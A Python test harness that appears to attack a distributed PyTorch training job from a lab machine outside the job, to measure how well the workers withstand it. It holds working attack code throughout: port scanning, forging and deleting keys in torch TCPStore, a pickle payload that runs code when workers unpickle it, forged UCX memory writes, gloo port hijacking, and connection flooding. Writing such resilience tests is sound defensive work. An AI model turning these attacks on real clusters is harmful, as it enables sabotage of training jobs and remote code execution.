"""What somebody tries who is on the workers' network and does not know the job's secret.

    python -m recipes.measure.hosts.outsider broken_era --hosts 10.199.0.1 10.199.0.2 --port 29500 --folder FOLDER

`attack.py` starts this on a machine of the lab that takes no part in the training. An attack is a function of a
`Target`. It uses what anybody has: a scan of ports, torch's own clients, and the names of keys from this repository.
Whether it does harm is seen from the workers, not said here.
"""

import argparse
import contextlib
import functools
import json
import os
import pickle
import random
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch
from torch.distributed import PrefixStore, Store, TCPStore

from layup_hf.fleet import channel
from layup_hf.fleet.secret import SIGNATURE_BYTES
from layup_hf.fleet.store import JobStore

PREFIXES = ("layup_hf/", "", "/", "default_pg/0/")
"""Under which a store may have the keys."""

NAMES = (
    *("job", "token", "workers", "beats", "members", "clock", "failure", "failures", "epoch", "plan"),
    *("requests", "request/{n}", "admitted/{n}", "beat/{n}", "state/{n}", "broken/{n}", "come/{n}/{n}", "roster/{n}"),
    *("drawn/{n}", "left/{n}", "not_begun/{n}/{n}", "gave_up/{n}", "gave_up/{n}/{n}", "begun/{n}/{n}"),
    *("order/{n}", "stream/{n}/1", "stream/{n}/end", "group/{n}/0", "group/{n}/default_pg/0//cuda//0/0"),
)
"""All keys that the sources of layup_hf have had, in one place; {n} is a small number."""

OPERATIONS = ((b"set", b"clock", b"x"), (b"add", b"clock", b"1"), (b"delete", b"clock"), (b"set", b"state/1", b""))
"""What is said to the job's own store."""

_UCX_SECONDS = 15.0  # until a UCX client has begun, on a busy machine

STRANGER = "66"  # the name that the outsider gives itself
MARK = "ran-"  # files that what was sent makes in the folder where it is run

VALUES: tuple[bytes, ...] = (
    *(b"", b"x", b"-1", b"alive", b"has ended", b"fenced by 66", b"null", b"{}", b"[]", b"\xff\xfe\x00", b"1e999"),
    b"9" * 400,
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"x" * (8 << 20),
    json.dumps([66, ["66"], ["66"]]).encode(),
    json.dumps(["66", "00" * 16]).encode(),
    json.dumps([[0, 0, 1 << 60]]).encode(),
    pickle.dumps({"a": 1}),
)
"""What is written where something else belongs: empty, letters, numbers too large, deep, huge, of another type."""


@dataclass
class Target:
    """The job, as far as an outsider can see it.

    Attributes:
        hosts: Addresses of the workers' machines.
        port: Of the launcher's store, on the first of them.
        folder: Where planted code leaves a mark.
        seconds: How long an attack goes on.
        draw: Random choices.
        notes: What has been done, for people.
    """

    hosts: list[str]
    port: int
    folder: Path
    seconds: float
    draw: random.Random
    notes: dict[str, Any] = field(default_factory=dict)

    def count(self, what: str, number: int = 1) -> None:
        self.notes[what] = self.notes.get(what, 0) + number

    def until_over(self, pause: float = 0.0) -> Iterator[int]:
        """Numbers, until the time of the attack is over."""
        end, number = time.monotonic() + self.seconds, 0
        while time.monotonic() < end:
            yield number
            number += 1
            time.sleep(pause)

    @functools.cached_property
    def ports(self) -> list[tuple[str, int]]:
        """Every place where a host listens."""
        found = [(host, port) for host in self.hosts for port in open_ports(host)]
        self.notes["open ports"] = [f"{host}:{port}" for host, port in found]
        return found

    def answering(self) -> list[tuple[str, int]]:
        """Those places that take a connection from here: of others, what is sent is dropped."""
        found = []
        for place in self.ports:
            with contextlib.suppress(OSError):
                socket.create_connection(place, timeout=0.3).close()
                found.append(place)
        return found

    def stores(self) -> list[Store]:
        """A connection to each store that answers, without any prefix: torch's, and the job's if it takes this one."""
        found: list[Store] = [store for place in self.ports if (store := connect(*place)) is not None]
        with contextlib.suppress(LookupError, ValueError, OSError):
            found.append(self.job_store())
        return found

    def job_store(self) -> Store:
        """The store of the job, found through the launcher's, as a worker without the secret reaches it.

        Raises:
            LookupError: It is not found so.
            ValueError: It does not accept who has no secret.
        """
        launcher = connect(self.hosts[0], self.port)
        try:
            announced = launcher.get("layup_hf/job")
            job = json.loads(announced[: -2 * SIGNATURE_BYTES])
        except Exception as error:
            raise LookupError(f"The launcher's store does not lead to the job's: {error}") from error
        return JobStore(job["host"], job["port"])

    def again(self, store: Store) -> Store:
        """The same store, after it has refused something: the job's closes the connection then."""
        return self.job_store() if isinstance(store, JobStore) else store


def open_ports(host: str, ports: Iterable[int] = range(1024, 65536)) -> list[int]:
    """Ports that take connections, of a host that says at once when one is closed; others drop what is sent."""
    found, waiting = [], iter(ports)
    with selectors.DefaultSelector() as selector:
        pending = 0
        while True:
            for port in waiting:
                one = socket.socket()
                one.setblocking(False)
                if one.connect_ex((host, port)) == 0:
                    found.append(port)
                    one.close()
                    continue
                selector.register(one, selectors.EVENT_WRITE, port)
                pending += 1
                if pending >= 200:
                    break
            if not pending:
                return sorted(found)
            answers = selector.select(timeout=0.5)
            if not answers:  # what is left drops what is sent
                for key in list(selector.get_map().values()):
                    selector.unregister(key.fileobj)
                    key.fileobj.close()  # type: ignore[union-attr]
                pending = 0
            for key, _ in answers:
                if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:  # type: ignore[union-attr]
                    found.append(key.data)
                selector.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]
                pending -= 1


def connect(host: str, port: int, seconds: float = 3) -> TCPStore | None:
    """A client of the store there; None if it is none. Asks first, as torch's client would wait long for an answer."""
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=1) as probe:
        probe.sendall(struct.pack("=BI", 0, 0x3C85F7CE) + struct.pack("=BI", 13, 4711))  # validate; ping
        if probe.recv(4) == struct.pack("=I", 4711):
            with contextlib.suppress(RuntimeError):
                return TCPStore(host, port, is_master=False, timeout=timedelta(seconds=seconds), wait_for_workers=False)
    return None


def keys_of(store: Store, most: int = 9) -> list[str]:
    """Keys that there are, if the store tells, and all that there may be."""
    listed: list[str] = []
    with contextlib.suppress(RuntimeError, AttributeError):
        listed = list(store.list_keys())
    guessed = [p + name.replace("{n}", str(n)) for p in PREFIXES for name in NAMES for n in range(most)]
    return list(dict.fromkeys([*listed, *guessed]))


class Planted:
    """Pickled, it is code: whoever unpickles it leaves a file with its process id."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return exec, (f"import os; open({str(self.folder)!r} + '/{MARK}' + str(os.getpid()), 'w').close()",)


# ---- Attacks on the stores ----


def reading(target: Target) -> None:
    """List all keys and read what there is."""
    for store in target.stores():
        for key in keys_of(store):
            with contextlib.suppress(RuntimeError):
                if store.check([key]):
                    target.count("values read")
                    if key.endswith("token"):
                        target.notes["token read"] = store.get(key).decode()


def forged_membership(target: Target) -> None:
    """Write a next era with a stranger in it, its state and its beat, and say that the present era is broken."""
    store = target.job_store()
    for number in range(2, 40):
        store.set(f"roster/{number}", json.dumps([number, ["1", "2", STRANGER], [STRANGER]]))
        store.set(f"come/{number}/{STRANGER}", "")
    store.set(f"state/{STRANGER}", "alive")
    store.set(f"admitted/{STRANGER}", "2")
    store.set("broken/1", "")
    for number in target.until_over(0.2):
        store.set(f"beat/{STRANGER}", str(number))


def forged_end(target: Target) -> None:
    """Say of every worker that it has been fenced, has ended or has failed."""
    store = target.job_store()
    for number in target.until_over(0.5):
        for member in ("1", "2"):
            store.set(f"state/{member}", ("fenced by 66", "has ended", "failed: ValueError")[number % 3])


def malformed(target: Target) -> None:
    """Write into every key what does not belong there."""
    for store in target.stores():
        keys = keys_of(store)
        target.draw.shuffle(keys)
        for key, _ in zip(keys, target.until_over(0.002), strict=False):
            try:
                store.set(key, target.draw.choice(VALUES))  # type: ignore[arg-type]
                target.count("values written")
            except RuntimeError:
                store = target.again(store)


def malformed_clock(target: Target) -> None:
    """Set the clock to a letter."""
    target.job_store().set("clock", "x")


def moved_clock(target: Target) -> None:
    """Let the clock jump, so that training would end, or would never."""
    target.job_store().add("clock", 1 << 40)


def nested_request(target: Target) -> None:
    """Leave a request to join that is nested as deep as no parser goes."""
    store = target.job_store()
    store.set(f"request/{store.add('requests', 1)}", "[" * 100_000)


def malformed_state(target: Target) -> None:
    """Three bytes that are no text, where a worker's state is."""
    target.job_store().set("state/2", b"\xff\xfe\x00")  # type: ignore[arg-type]


def deleted_keys(target: Target) -> None:
    """Delete every key, again and again."""
    for store in target.stores():
        keys = keys_of(store)
        for key, _ in zip(keys, target.until_over(), strict=False):
            try:
                target.count("keys deleted", int(store.delete_key(key)))
            except RuntimeError:
                store = target.again(store)


def counted_down(target: Target) -> None:
    """Say that no worker is left: then whoever keeps the store ends it."""
    target.job_store().add("workers", -1000)


# ---- Attacks as a worker ----


def forged_worker(target: Target) -> None:
    """Join the next era under a forged name, and send one object that is code when it is unpickled."""
    store = target.job_store()
    for number in range(2, 12):
        store.set(f"roster/{number}", json.dumps([number, ["1", "2", STRANGER], []]))
        store.set(f"come/{number}/{STRANGER}", "")
    store.set(f"state/{STRANGER}", "alive")
    store.set(f"beat/{STRANGER}", "1")
    store.set("broken/1", "")
    for era in range(2, 12):
        with contextlib.suppress(RuntimeError):
            group = PrefixStore(f"group/{era}", store)
            limit = timedelta(seconds=target.seconds)
            torch.distributed.init_process_group("gloo", store=group, rank=2, world_size=3, timeout=limit)
            torch.distributed.barrier()
            target.count("groups joined")
            send_object(Planted(target.folder))
            target.count("objects sent")
            send_object(Planted(target.folder))
        if torch.distributed.is_initialized():
            torch.distributed.destroy_process_group()
        if time.monotonic() > target.notes["began"] + target.seconds:
            return


def send_object(item: Any) -> None:
    """This worker's part in an `all_gather_object` of three, without unpickling what comes back."""
    payload = torch.frombuffer(bytearray(pickle.dumps(item)), dtype=torch.uint8)
    sizes = [torch.zeros(1, dtype=torch.int64) for _ in range(3)]
    torch.distributed.all_gather(sizes, torch.tensor([len(payload)]))
    most = max(int(size) for size in sizes)
    padded = torch.zeros(most, dtype=torch.uint8)
    padded[: len(payload)] = payload
    torch.distributed.all_gather([torch.empty(most, dtype=torch.uint8) for _ in range(3)], padded)


def forged_requests(target: Target) -> None:
    """Ask to join as often as it goes, under ever new names, with proofs that are none."""
    store = target.job_store()
    for number in target.until_over(0.005):
        name = str(1000 + number)
        store.set(f"state/{name}", "alive")
        store.set(f"beat/{name}", str(number))
        store.set(f"request/{store.add('requests', 1)}", json.dumps([name, "00" * 16]))
        target.count("requests")


def replayed_requests(target: Target) -> None:
    """Repeat what others have asked for, and let those who asked be there again."""
    store = target.job_store()
    recorded: list[bytes] = []
    for number in target.until_over(0.2):
        recorded = recorded or [
            store.get(f"request/{n}") for n in range(1, store.add("requests", 0) + 1) if store.check([f"request/{n}"])
        ]
        for request in recorded:
            with contextlib.suppress(ValueError, TypeError, RecursionError):
                name = json.loads(request)[0]
                store.set(f"state/{name}", "alive")
                store.set(f"beat/{name}", str(number))
                store.delete_key(f"admitted/{name}")
            store.set(f"request/{store.add('requests', 1)}", request)  # type: ignore[arg-type]
            target.count("requests repeated")


def guessed_secret(target: Target) -> None:
    """Speak to the job's own store as a worker does, with a secret that is none; go on as if it had been taken."""
    places = target.answering()
    for _ in target.until_over(0.05):
        for place in places:
            with contextlib.suppress(OSError), socket.create_connection(place, timeout=0.3) as one:
                hello = channel.Hello.unpack(one.recv(channel.HELLO_BYTES))
                target.notes["store of the job"] = f"{place[0]}:{place[1]}"
                target.notes["tells its secret"] = hello.token is not None
                token = target.draw.randbytes(channel.TOKEN_BYTES)
                proof, nonces = channel.request(token, hello)
                session = channel.Session.of(token, nonces)
                one.sendall(proof + b"".join(session.requests.seal(channel.pack(words)) for words in OPERATIONS))
                target.count("guesses")


def forged_transfer(target: Target) -> None:
    """With a real UCX client, write where no process has memory: what lets itself be written to dies of it."""
    from layup_hf.windows.transport import Transport

    clients = []
    for place in target.ports:
        pid = os.fork()
        if pid == 0:  # to connect where nobody answers takes minutes, and cannot be given up
            code = 1
            with contextlib.suppress(Exception):
                transport = Transport(f"stranger-{place[1]}", torch.device("cpu"))
                is_written = write_to(transport, *place, 4096)  # where no process has memory
                for _ in range(1000):
                    transport.receive()
                    is_written()
                    time.sleep(0.001)
                code = 0
            os._exit(code)
        clients.append(pid)
        target.count("ports written to")
    time.sleep(max(target.seconds, _UCX_SECONDS))
    ended = [status for pid, status in (os.waitpid(pid, os.WNOHANG) for pid in clients) if pid]
    target.count("clients that failed", sum(os.waitstatus_to_exitcode(status) == 1 for status in ended))


def write_to(transport: Any, host: str, port: int, place: int) -> Callable[[], bool]:
    """Take this agent's own address, put another's in its place, and begin to write sevens to a place in its memory.

    Returns:
        Whether they have been written, whenever it is asked.
    """
    mine, name = torch.full((64,), 7, dtype=torch.uint8), transport.name.encode()
    transport.register([mine])
    own = socket.inet_aton(os.environ["LAB_ADDRESS"]), struct.pack("!H", transport.ports[0])
    address = transport.address().replace(own[0], socket.inet_aton(host)).replace(own[1], struct.pack("!H", port))
    peer = transport.connect(address.replace(name, name[::-1]))
    key = transport.key(mine).replace(struct.pack("<Q", mine.data_ptr()), struct.pack("<Q", place))
    transport.accept_key(key.replace(name, name[::-1]), peer)
    handle = transport.write(peer, [(mine.data_ptr(), 64)], [(place, 64)], 0)

    def is_written(_needed: torch.Tensor = mine) -> bool:
        return transport.is_written(handle)

    return is_written


# ---- Attacks on ports ----


def half_open(target: Target) -> None:
    """Connect to every port many times, and say nothing."""
    held, places = [], target.answering()
    for _ in range(200):
        for place in places:
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(place, timeout=1))
    target.count("connections held", len(held))
    time.sleep(target.seconds)


def garbage(target: Target) -> None:
    """Random bytes to every port, each time in a new connection."""
    places = target.answering()
    for _ in target.until_over(0.005):
        with contextlib.suppress(OSError), socket.create_connection(target.draw.choice(places), 0.2) as one:
            one.sendall(target.draw.randbytes(target.draw.choice((1, 8, 64, 4096, 1 << 18))))
            target.count("connections")


def drip(target: Target) -> None:
    """To every port a byte now and then, of a message that never ends."""
    held = []
    for place in target.answering():
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(place, timeout=1))
    for _ in target.until_over(0.2):
        for one in held:
            with contextlib.suppress(OSError):
                one.sendall(target.draw.randbytes(1))
                target.count("bytes")


def taken_places(target: Target) -> None:
    """Where a group of gloo forms, be there before its members: gloo knows them by small numbers that anybody can say.

    Ports that were there before are passed over: these are of stores, UCX and groups that have formed.
    """
    known, held = {place for host in target.hosts for place in newest(host)}, []
    for _ in target.until_over(0.05):
        now = {place for host in target.hosts for place in newest(host)}
        target.count("looks")
        for place in now - known:
            held += take_places(place, target.draw)
            target.count("ports that came up")
        known |= now
    target.count("places taken", len(held))


def newest(host: str) -> list[tuple[str, int]]:
    """Where a host listens that has let the system choose a port."""
    first, last = map(int, Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())
    return [(host, port) for port in open_ports(host, range(first, last + 1))]


def take_places(
    place: tuple[str, int], draw: random.Random, numbers: int = 16, sender: str = ""
) -> list[socket.socket]:
    """Connections that gloo takes for its members', one for each number; half of them then say what makes no sense."""
    held = []
    for number in range(numbers):
        with contextlib.suppress(OSError):
            one = socket.create_connection(place, timeout=0.5, source_address=(sender, 0))
            held.append(one)
            one.sendall(struct.pack("<q", number) + (draw.randbytes(200) if draw.random() < 0.5 else b""))
    return held


# ---- All at once, at random ----


def fuzz(target: Target) -> None:
    """Write, append, count and delete keys, known and made up, and speak random bytes to every port."""
    draw, scanned, held = target.draw, time.monotonic() + 20, []
    stores = target.stores()
    for _ in target.until_over(0.004):
        if time.monotonic() > scanned:  # ports come and go
            scanned = time.monotonic() + 20
            vars(target).pop("ports", None)
            stores = target.stores()
        what = draw.random()
        try:
            if what < 0.7 and stores:
                key = draw.choice(PREFIXES) + draw.choice(NAMES).replace("{n}", str(draw.randrange(1, 6)))
                fuzz_key(target, draw.choice(stores), key if draw.random() < 0.9 else draw.randbytes(9).hex())
            elif target.ports:
                one = socket.create_connection(draw.choice(target.ports), timeout=0.5)
                one.sendall(draw.randbytes(draw.randrange(2000)))
                target.count("connections")
                held.append(one)
                if len(held) > 300:
                    held.pop(draw.randrange(300)).close()
        except OSError:
            target.count("refused")
        except RuntimeError:  # a store that has gone: c10d's client says so
            target.count("lost")
            scanned = 0.0
            time.sleep(0.2)


def fuzz_key(target: Target, store: Store, key: str) -> None:
    """One random operation on a key."""
    draw = target.draw
    match draw.choice(("set", "append", "add", "delete", "exchange")):
        case "set":
            store.set(key, draw.choice(VALUES[:-1]))  # type: ignore[arg-type]
        case "append":
            store.append(key, draw.choice(("x", "[", "0", "\x00")))
        case "add":
            with contextlib.suppress(RuntimeError):  # what is there may be no number
                store.add(key, draw.choice((-1, 1, 1 << 48, 1 << 60, -(1 << 62))))
        case "delete":
            store.delete_key(key)
        case "exchange":
            store.compare_set(key, "alive", "fenced by 66")
    target.count("operations on keys")


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        *(reading, forged_membership, forged_end, malformed_clock, moved_clock, nested_request),
        *(malformed_state, counted_down, forged_worker, forged_requests, replayed_requests),
        *(guessed_secret, forged_transfer, half_open, garbage, drip, taken_places, malformed, deleted_keys, fuzz),
    )
}


SLOW = ("forged_transfer",)
"""Attacks that take long, however short they are to be."""


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attacks", nargs="+", choices=[*ATTACKS, "all"])
    parser.add_argument("--hosts", nargs="+", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--folder", type=Path, required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args()
    ports = None
    for name in ATTACKS if "all" in options.attacks else options.attacks:
        draw = random.Random(f"{name}-{options.seed}")
        target = Target(options.hosts, options.port, options.folder, options.seconds, draw)
        if ports is not None:
            vars(target)["ports"] = ports
        else:
            ports = target.ports
        target.notes["began"] = time.monotonic()
        try:
            ATTACKS[name](target)
        except Exception as error:  # an attack that is turned away
            target.notes["stopped by"] = f"{type(error).__name__}: {error}"[:200]
        print(json.dumps({"attack": name, **target.notes}), flush=True)
    os._exit(0)  # what is still connected must not hold this up


if __name__ == "__main__":
    main()
